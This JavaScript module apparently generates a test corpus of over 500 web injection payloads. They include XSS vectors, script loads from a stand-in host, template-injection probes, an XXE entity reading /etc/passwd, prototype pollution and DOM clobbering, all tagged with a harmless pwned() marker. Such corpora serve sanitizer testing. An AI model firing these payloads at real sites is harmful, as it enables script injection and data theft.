// More than 500 texts that would run a script, load a file, rewrite a page or end the place they stand in, if anything
// let them. They are put together from families: what each does is the same, `pwned(…)`, how it tries differs.
const RUN = 'pwned(1)';
const elsewhere = 'https://pwned.invalid/';

const cross = (left, right, join) => left.flatMap((one) => right.map((other) => join(one, other)));
const coded = (text, code) => Array.from(text, (sign) => code(sign.codePointAt(0))).join('');

// What closes the places that a text may stand in.
const ENDS = ['', '">', "'>", '">\'>', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</template>',
  '-->', '--!>', ']]>', '?>', '*/', '</svg>', '</math>', '</select>', '</p></main>', '`>'];

const HANDLERS = ['click', 'load', 'error', 'focus', 'blur', 'mouseover', 'mouseenter', 'pointerover', 'pointerdown',
  'toggle', 'beforetoggle', 'animationstart', 'animationend', 'transitionend', 'wheel', 'scroll', 'scrollend', 'begin',
  'keydown', 'input', 'beforeinput', 'change', 'submit', 'reset', 'invalid', 'paste', 'copy', 'cut', 'drag', 'dragstart',
  'drop', 'resize', 'hashchange', 'popstate', 'pageshow', 'pagehide', 'beforeunload', 'unload', 'message', 'storage',
  'canplay', 'loadstart', 'ratechange', 'auxclick', 'contextmenu', 'dblclick', 'selectstart', 'search', 'finish',
  'beforematch', 'contentvisibilityautostatechange', 'securitypolicyviolation', 'fullscreenchange', 'focusin'];

const HOSTS = ['img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x', 'a href=x tabindex=1', 'math',
  'select autofocus', 'x contenteditable tabindex=1', 'marquee', 'object data=x', 'form', 'dialog open', 'iframe', 'audio src=x'];

const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java&#x09;script:', 'java&Tab;script:',
  'java&NewLine;script:', '&#106;avascript:', '&#0000106avascript:', '&#x6a;avascript&colon;', '\u0001javascript:',
  ' javascript:', '\u00a0javascript:', 'javascript&#58;', 'javascript%3A', 'javascript://%0a', 'javascript://x.invalid/%0d%0a',
  'vbscript:', 'livescript:', 'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==#',
  'data:image/svg+xml,<svg onload=', 'data:application/javascript,', 'view-source:javascript:', 'feed:javascript:',
  'jar:javascript:', 'blob:javascript:', 'filesystem:javascript:', 'mailto:"onclick=', '//pwned.invalid/', '\\\\pwned.invalid/',
  'file:///etc/passwd#', 'ms-its:', 'mhtml:', 'x-schema:', 'about:blank#', 'intent://pwned#', 'ｊavascript:', 'javascript\u2028:'];

const scripts = () => [
  ...cross(ENDS, [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`], (end, what) => end + what),
  `<script src=${elsewhere}x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<script/x>${RUN}</script\t>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script\n>${RUN}\n</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>${RUN}<!--`,
  `<script x="</script>">${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} />`,
  `<svg><script>&#112;wned(1)</script></svg>`,
  `<script>window["pwn"+"ed"](1)</script>`,
  `<script nonce=x nomodule>${RUN}</script>`,
];

const handlers = () => [
  ...HANDLERS.map((name, at) => `<${HOSTS[at % HOSTS.length]} on${name}=${RUN}>`),
  ...HOSTS.map((host, at) => `"><${host} ON${HANDLERS[(at * 7) % HANDLERS.length].toUpperCase()}="${RUN}" `),
  ...HANDLERS.slice(0, 24).map((name) => `" on${name}="${RUN}" x="`),
  ...HANDLERS.slice(0, 16).map((name) => `' on${name}='${RUN}' x='`),
  ...HANDLERS.slice(0, 8).map((name) => `x on${name}=${RUN}`),
  `<img/src=x/onerror=${RUN}>`,
  `<img\fsrc=x\fonerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src="x"onerror="${RUN}">`,
  `<img src=x:x onerror=&#112;wned&lpar;1&rpar;>`,
  `<img src=\`x\`onerror=${RUN}>`,
  `<img """><img src=x onerror=${RUN}>">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<style>@keyframes x{}</style><x style="animation-name:x" onanimationstart=${RUN}>`,
];

const addresses = () => [
  ...SCHEMES.map((scheme) => `<a href="${scheme}${RUN}">x</a>`),
  ...SCHEMES.slice(0, 12).map((scheme) => `<iframe src="${scheme}${RUN}"></iframe>`),
  ...SCHEMES.slice(0, 8).map((scheme) => `<form action="${scheme}${RUN}"><button>x</button></form>`),
  ...SCHEMES.slice(0, 8).map((scheme) => `<button form=f formaction="${scheme}${RUN}">x</button>`),
  ...SCHEMES.slice(0, 6).map((scheme) => `<svg><a xlink:href="${scheme}${RUN}"><text>x</text></a></svg>`),
  ...SCHEMES.slice(0, 6).map((scheme) => `<math href="${scheme}${RUN}"><mtext>x</mtext></math>`),
  ...SCHEMES.slice(0, 6).map((scheme) => `<area shape=default href="${scheme}${RUN}">`),
  ...SCHEMES.slice(0, 6).map((scheme) => `<object data="${scheme}${RUN}"></object><embed src="${scheme}${RUN}">`),
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta http-equiv=set-cookie content="pwned=1">`,
  `<base href="${elsewhere}">`,
  `<base href="javascript:/${RUN}/">`,
  `<base target=pwned>`,
  `<link rel=stylesheet href=${elsewhere}x.css>`,
  `<link rel=import href=data:text/html,<script>${RUN}</script>>`,
  `<link rel=modulepreload href=${elsewhere}x.js>`,
  `<link rel=manifest href=${elsewhere}x.json>`,
  `<use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><use xlink:href="${elsewhere}x.svg#x"/></svg>`,
  `<svg><image href="${elsewhere}x.svg"/></svg>`,
  `<img srcset="${elsewhere}x.png 2x" src=x>`,
  `<picture><source srcset=${elsewhere}x.png><img src=x onerror=${RUN}></picture>`,
  `<video poster=javascript:${RUN}><source onerror=${RUN}></video>`,
  `<portal src=javascript:${RUN}></portal>`,
  `<frameset onload=${RUN}><frame src=javascript:${RUN}></frameset>`,
  `<applet code=javascript:${RUN}></applet>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<input type=image src=javascript:${RUN} onerror=${RUN}>`,
  `<table background="javascript:${RUN}"><td background="javascript:${RUN}">`,
];

const styles = () => [
  `<style>*{background:url(javascript:${RUN})}</style>`,
  `<style>@import "${elsewhere}x.css";</style>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>*{x:expression(${RUN})}</style>`,
  `<style>body{behavior:url(#default#time2);-moz-binding:url(${elsewhere}x.xml#x)}</style>`,
  `<style>body{display:none}</style>`,
  `<style></style><script>${RUN}</script>`,
  `<style><img src="</style><img src=x onerror=${RUN}>">`,
  `<div style="background:url(javascript:${RUN})">`,
  `<div style="width:expression(${RUN})">`,
  `<div style="x:\\65xpression(${RUN})">`,
  `<div style="position:fixed;inset:0;z-index:9999">`,
  `" style="position:fixed;inset:0" x="`,
  `<div style=list-style:url(${elsewhere}x.png)>`,
  `</style><script>${RUN}</script>`,
  `<link rel=stylesheet href=data:,*%7bx:expression(${RUN})%7d>`,
  `{}*{background:red url(${elsewhere}x)}`,
  `<svg><style>@import "${elsewhere}x.css"</style></svg>`,
];

const mutations = () => [
  ...cross(['math', 'svg'], ['mtext', 'annotation-xml', 'desc', 'title', 'foreignObject', 'mi'], (outer, inner) =>
    `<${outer}><${inner}><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`),
  ...['noscript', 'noembed', 'noframes', 'template', 'xmp', 'plaintext', 'iframe', 'textarea', 'title', 'style', 'listing'].map(
    (raw) => `<${raw}><p title="</${raw}><img src=x onerror=${RUN}>">`),
  ...['noscript', 'template', 'xmp', 'select', 'table', 'form', 'p', 'a', 'button', 'details'].map(
    (raw) => `</${raw}><${raw}><${raw}><svg onload=${RUN}></${raw}>`),
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<table><td><svg><desc><td><img src=x onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<x is=x><slot name=x><img src=x onerror=${RUN}></slot>`,
];

const comments = () => [
  ...cross(['<!--', '<!', '<?', '<![CDATA[', '<!DOCTYPE ', '<%', '</'], [`><img src=x onerror=${RUN}>`, `--><svg onload=${RUN}>`,
    `]]><script>${RUN}</script>`], (open, what) => open + what),
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<!--<script>${RUN}</script>`,
  `<!-- --!><img src=x onerror=${RUN}>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>`,
  `]]></title></entry></feed><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
];

// Names that would stand before what a script of the page asks for.
const clobbering = () => [
  ...cross(['a', 'form', 'img', 'input', 'iframe', 'object'],
    ['document', 'body', 'location', 'cookie', 'forms', 'querySelector', 'getElementById', 'documentElement', 'localStorage',
      'declog', 'search', 'recorded'],
    (tag, name) => `<${tag} id=${name} name=${name}>`),
  '<a id=x><a id=x name=y href=javascript:pwned(1)>',
  '<form id=attributes><input name=attributes><input name=parentNode></form>',
  '__proto__',
  'constructor',
  'prototype.pwned',
  'toString',
  '__proto__[innerHTML]=<img src=x onerror=pwned(1)>',
  'hasOwnProperty',
];

const encodings = () => [
  ...['&lt;', '&lt', '&#60;', '&#60', '&#x3c;', '&#x3c', '&#x00003C', '&LT;', '&LT', '\\u003c', '\\x3c', '%3C', '%253C', '\\74',
    '＜', '﹤', '‹', '+ADw-', '\u00c0\u00bc', '\ufeff<', '\u00ad<', '<\u200b', '<\u0000', '\ufffd<'].flatMap((less) => [
    `${less}script>${RUN}${less}/script>`,
    `${less}img src=x onerror=${RUN}>`,
  ]),
  ...['"', '&quot;', '&quot', '&#34;', '&#x22;', '\\"', '\\u0022', '%22', '”', '＂', '\u02ba'].map(
    (quote) => `${quote} onmouseover=${quote}${RUN}${quote}`),
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}">x</a>`,
  `<a href="${coded('javascript:', (code) => `&#${code};`)}${RUN}">x</a>`,
  `<a href="${coded('javascript:', (code) => `&#${String(code).padStart(7, '0')}`)}${RUN}">x</a>`,
  `<a href="${coded('javascript:', (code) => `%${code.toString(16)}`)}${RUN}">x</a>`,
  `<img src=x onerror="${coded(RUN, (code) => `\\u${code.toString(16).padStart(4, '0')}`)}">`,
  `<img src=x onerror="${coded(RUN, (code) => `&#x${code.toString(16)};`)}">`,
];

// What ends or turns a text in a script, in JSON, in CSV or in the language of a template.
const contexts = () => [
  ...cross(['</script>', '</script >', '</SCRIPT/x>', '<\\/script>', '<!--<script>', '\u2028', '\u2029', '\\', '\\\\', '\\u2028', '\n', '\r'],
    [`<script>${RUN}</script>`, `";${RUN};//`, `'-${RUN}-'`], (end, what) => end + what),
  ...['"', "'", '`', '\\"', "\\'", '\\`'].flatMap((quote) => [`${quote};${RUN};//`, `${quote}+${RUN}+${quote}`, `${quote}}]);${RUN}//`]),
  `\${${RUN}}`, `#{${RUN}}`, `{{${RUN}}}`, `{{constructor.constructor('${RUN}')()}}`, `{%raw%}{{${RUN}}}{%endraw%}`,
  `{% include "/etc/passwd" %}`, `{{ "<script>${RUN}</script>"|safe }}`, `{# ${RUN} #}`, `<%= ${RUN} %>`, `<?php ${RUN} ?>`,
  `[[${RUN}]]`, `@{${RUN}}`, `*{${RUN}}`, `{{7*7}}`, `{{self}}{{config}}`, `%{${RUN}}`, `{{{${RUN}}}}`, `$(${RUN})`, `\`${RUN}\``,
  `=HYPERLINK("${elsewhere}")`, `{"__proto__":{"pwned":1}}`, `"}],"x":[{"title":"<img src=x onerror=${RUN}>`,
];

const markdown = () => [
  ...SCHEMES.flatMap((scheme) => [`[x](${scheme}${RUN})`, `[x](<${scheme}${RUN}>)`, `![x](${scheme}${RUN})`]),
  ...SCHEMES.slice(0, 16).map((scheme) => `<${scheme}${RUN}>`),
  ...SCHEMES.slice(0, 16).map((scheme, at) => `[r${at}]: ${scheme}${RUN} "x"`),
  `[x](https://example.org/ "\\" onmouseover=${RUN} x=\\"")`,
  `[x](https://example.org/ '" onmouseover="${RUN}')`,
  `[x](https://example.org/"onmouseover="${RUN})`,
  `![x" onerror="${RUN}](x.png)`,
  `![x](x.png "\\" onerror=\\"${RUN}")`,
  `[x]( https://example.org/\u0000" onclick=${RUN} )`,
  `[<img src=x onerror=${RUN}>](https://example.org/)`,
  `[![x](javascript:${RUN})](javascript:${RUN})`,
  `[^x]: <img src=x onerror=${RUN}>`,
  `[^"onclick=${RUN}]`,
  `\`\`\`html"onclick=${RUN}`,
  `\`<img src=x onerror=${RUN}>\``,
  `\`\` \` <script>${RUN}</script> \`\``,
  `https://example.org/"onmouseover=${RUN}`,
  `www.example.org/<script>${RUN}</script>`,
  `<https://example.org/?"onmouseover="${RUN}>`,
  `<pwned@example.org"onclick="${RUN}>`,
  `# x {#pwned onclick=${RUN} style=color:red}`,
  `{: onclick="${RUN}" style="color:red"}`,
  `:::pwned{onclick=${RUN}}`,
  `- [ ] <input type=text onfocus=${RUN} autofocus>`,
  `> [!NOTE]<img src=x onerror=${RUN}>`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `*[x]: <script>${RUN}</script>`,
  `\\<script\\>${RUN}\\</script\\>`,
  `<details open ontoggle=${RUN}>`,
  `a|<img src=x onerror=${RUN}>|b`,
];

const unseen = () => ['\u202e', '\u202d', '\u2066', '\u2067', '\u200b', '\u200e', '\u2060', '\ufeff', '\u00ad', '\u{e0041}', '\u0300'.repeat(20),
  '\u061c', '\u115f', '\u3164', '\u034f', '\ufff9'].flatMap((sign) => [
  `${sign}<img src=x onerror=${RUN}>`,
  `<scr${sign}ipt>${RUN}</scr${sign}ipt>`,
  `java${sign}script:${RUN}`,
]);

const FAMILIES = { scripts, handlers, addresses, styles, mutations, comments, clobbering, encodings, contexts, markdown, unseen };

// Every vector with the family that it is of; each says in itself which one it is, where it may say a number.
export function vectors() {
  return Object.entries(FAMILIES).flatMap(([family, make]) =>
    [...new Set(make())].map((text, at) => ({ family, text: text.replaceAll(RUN, `pwned('${family}-${at}')`) })));
}
